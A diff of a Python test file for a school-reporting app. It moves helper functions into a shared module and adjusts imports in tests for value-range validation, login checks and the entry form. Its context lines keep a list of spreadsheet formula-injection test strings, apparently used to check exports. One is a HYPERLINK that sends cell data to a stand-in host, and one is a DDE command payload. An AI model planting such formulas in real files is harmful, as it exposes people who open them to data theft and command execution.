@@ -13,7 +13,7 @@ from docx import Document
 from openpyxl import load_workbook
 
 from core import roadmap_book, roadmap_docx
-from tests.test_pages import app_db  # noqa: F401 - the fixture is used by name
+from tests.helpers import school_id, snapshot
 
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+7 900 000-00-00", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3", "=1+1"]
@@ -84,7 +84,7 @@ def test_user_administration_refuses_bad_logins_and_names(demo_db_any, bad, mess
     from core import auth, users
     from core.db import session_scope
     from core.models import User
-    from tests.test_auth import scope_of
+    from tests.helpers import scope_of
 
     admin = scope_of(demo_db_any, "demo-admin")
     with session_scope(demo_db_any) as s:
@@ -102,7 +102,7 @@ def test_user_administration_refuses_bad_logins_and_names(demo_db_any, bad, mess
 
 def test_ordinary_logins_and_names_pass(demo_db_any):
     from core import auth, users
-    from tests.test_auth import scope_of
+    from tests.helpers import scope_of
 
     admin = scope_of(demo_db_any, "demo-admin")
     for login, name in [("ivanova.m-2@school_7", "Иванова Мария-Луиза Петровна"), ("Ёлкин", "Ёлкин Ё. Ё."),
@@ -114,26 +114,6 @@ def test_ordinary_logins_and_names_pass(demo_db_any):
 # ---------------------------------------------------------------------------------------------
 # 3. Values within reason
 # ---------------------------------------------------------------------------------------------
-def snapshot(engine) -> tuple:
-    """What a refused write must leave as it found it, on either backend: the values, their history,
-    the uploads and the data version."""
-    from sqlalchemy import text as sql
-
-    with engine.connect() as c:
-        return (c.execute(sql("SELECT school_id, indicator_id, period_id, value, numerator, denominator "
-                              "FROM measurement ORDER BY 1, 2, 3")).all(),
-                c.execute(sql("SELECT COUNT(*) FROM measurementhistory")).scalar(),
-                c.execute(sql("SELECT COUNT(*) FROM upload")).scalar(),
-                c.execute(sql("SELECT value FROM appmeta WHERE key = 'data_version'")).scalar())
-
-
-def _school_id(engine, code):
-    from sqlalchemy import text as sql
-
-    with engine.connect() as c:
-        return c.execute(sql("SELECT id FROM school WHERE code = :c"), {"c": code}).scalar()
-
-
 BEYOND = [  # (indicator, part, value, what the refusal names)
     ("olympiad_participants", "value", 1e26, "от 0 до 100\u00a0000 (наибольшее правдоподобное для школы)"),
     ("olympiad_participants", "value", 1e308, "от 0 до 100\u00a0000"),
@@ -148,7 +128,7 @@ BEYOND = [  # (indicator, part, value, what the refusal names)
 def test_a_value_beyond_its_range_is_refused_by_the_upload(demo_db_any, code, part, number, named):
     from core.ingest import pipeline
     from tests.ingest_files import long_table
-    from tests.test_auth import scope_of
+    from tests.helpers import scope_of
 
     row = ["NEV-02", code, "2024-Q4", None, None, None]
     if part == "value":
@@ -167,10 +147,10 @@ def test_a_value_beyond_its_range_is_refused_by_the_upload(demo_db_any, code, pa
 
 def test_a_value_beyond_its_range_is_refused_by_the_entry_form(demo_db_any):
     from core import cycle
-    from tests.test_auth import scope_of
+    from tests.helpers import scope_of
 
     pr = scope_of(demo_db_any, "demo-principal")
-    pv, _ = cycle.prepare_entry(pr, _school_id(demo_db_any, "NEV-02"), "2024-Q4", {
+    pv, _ = cycle.prepare_entry(pr, school_id(demo_db_any, "NEV-02"), "2024-Q4", {
         "olympiad_participants": {"value": 1e26}, "edu_quality": {"denominator": 1000, "numerator": 10}},
         engine=demo_db_any)
     texts = [p.text for p in pv.errors]
@@ -179,7 +159,7 @@ def test_a_value_beyond_its_range_is_refused_by_the_entry_form(demo_db_any):
     assert any("Обучающихся, прошедших аттестацию" in t and "1\u00a0000 вне допустимого диапазона: от 0 до 925" in t
                for t in texts), texts
     assert not pv.ok
-    ok, _ = cycle.prepare_entry(pr, _school_id(demo_db_any, "NEV-02"), "2024-Q4", {
+    ok, _ = cycle.prepare_entry(pr, school_id(demo_db_any, "NEV-02"), "2024-Q4", {
         "edu_quality": {"denominator": 900, "numerator": 10}}, engine=demo_db_any)  # within the margin
     assert not any("диапазона" in p.text for p in ok.errors)
 
@@ -203,7 +183,7 @@ def test_the_indicator_maximum_is_its_own(demo_db_any):
 
     from core.ingest import pipeline
     from tests.ingest_files import long_table
-    from tests.test_auth import scope_of
+    from tests.helpers import scope_of
 
     with demo_db_any.begin() as c:
         c.execute(sql("UPDATE indicator SET max_value = 50 WHERE code = 'olympiad_participants'"))
@@ -246,7 +226,7 @@ def test_pages_survive_any_stored_float(app_db, stored):
     from sqlalchemy import text as sql
 
     from core import cli
-    from tests.test_pages import run_as
+    from tests.helpers import run_as
 
     with app_db.begin() as c:
         for code in ("olympiad_participants", "edu_quality"):
@@ -265,7 +245,7 @@ def test_pages_survive_any_stored_float(app_db, stored):
 def test_the_entry_page_refuses_a_value_beyond_its_range(app_db):
     """The browser form: 1e26 participants (the «резкое изменение» tick let it through before) is an
     error naming the field and the range, and there is nothing to write."""
-    from tests.test_pages import run_as
+    from tests.helpers import run_as
 
     at = run_as("demo-principal", "../app_pages/entry.py")
     at.selectbox(key="entry_period").set_value("2024-Q4").run()
